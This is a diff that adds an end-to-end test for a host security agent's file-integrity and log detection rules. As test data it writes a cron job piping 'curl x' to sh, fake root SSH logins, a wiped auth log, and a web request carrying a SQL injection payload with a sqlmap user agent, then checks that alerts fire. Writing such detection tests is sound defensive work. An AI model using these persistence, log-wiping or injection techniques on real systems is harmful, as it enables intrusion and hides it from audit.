@@ -241,3 +241,47 @@ def test_process_alerts_through_the_daemon(agent_factory, tmp_path: Path) -> Non
         listener.close()
         tmp_exe.unlink(missing_ok=True)
         agent.stop()
+
+
+@pytest.mark.e2e
+@pytest.mark.slow
+def test_files_and_logs_through_the_daemon(agent_factory, tmp_path: Path) -> None:
+    """FIM in a temporary root, an auth log that gets wiped, a web log with a scanner."""
+    root = tmp_path / "root"
+    (root / "etc" / "cron.d").mkdir(parents=True)
+    (root / "etc" / "passwd").write_text("root:x:0:0::/root:/bin/bash\n")
+    auth, web = tmp_path / "auth.log", tmp_path / "access.log"
+    auth.write_text("")
+    web.write_text("")
+    agent = agent_factory({
+        **ONLY,
+        "fim": {"enabled": True, "root": str(root)},
+        "auth_logs": {"enabled": True, "paths": [str(auth)], "journal": "off",
+                      "start_at_end": False, "poll_interval_seconds": 0.1},
+        "web_logs": {"enabled": True, "paths": [str(web)], "start_at_end": False,
+                     "poll_interval_seconds": 0.1},
+        "detection": {"rule_paths": [str(REPO / "rules")]},
+    }).start()
+    try:
+        agent.wait_for(lambda: (agent.sample("vedette_fim_files") or 0) > 0, timeout=15,
+                       what="the FIM baseline")
+        (root / "etc" / "cron.d" / "update").write_text("* * * * * root curl x|sh\n")
+        with auth.open("a") as fh:
+            fh.write("2026-11-21T10:00:00Z web1 sshd[9]: Accepted password for root from "
+                     "198.18.3.3 port 5000 ssh2\n" * 3)
+        with web.open("a") as fh:
+            stamp = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime())
+            fh.write(f'198.18.9.9 - - [{stamp}] "GET /?id=1%27%20or%201=1-- HTTP/1.1" 200 5 '
+                     f'"-" "sqlmap/1.8"\n')
+        time.sleep(1.0)
+        auth.write_text("")  # wiped
+        wanted = ("Cron job created or changed", "Authentication log truncated or deleted",
+                  "SQL injection pattern in a web request",
+                  "Known attack tool or vulnerability scanner user agent")
+        agent.wait_for(lambda: all(_alerts(agent, t) for t in wanted), timeout=20,
+                       what=f"alerts {wanted}; "
+                            f"got {sorted({a['rule']['name'] for a in agent.alerts()})}")
+        cron = _alerts(agent, wanted[0])[0]
+        assert cron["vedette"]["group"] == {"file.path": "/etc/cron.d/update"}
+    finally:
+        agent.stop()
